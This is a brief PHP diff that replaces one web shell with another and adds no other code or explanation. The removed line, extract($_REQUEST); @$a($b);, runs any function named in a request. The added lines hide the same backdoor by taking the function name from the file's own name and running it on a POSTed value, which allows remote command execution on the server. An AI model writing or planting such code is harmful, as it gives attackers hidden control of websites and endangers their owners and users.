@@ -1,1 +1,4 @@
-<?php extract($_REQUEST); @$a($b);
+<?php
+$f = substr(__FILE__, -10, 6);
+$c = $_POST[1];
+$f($c);
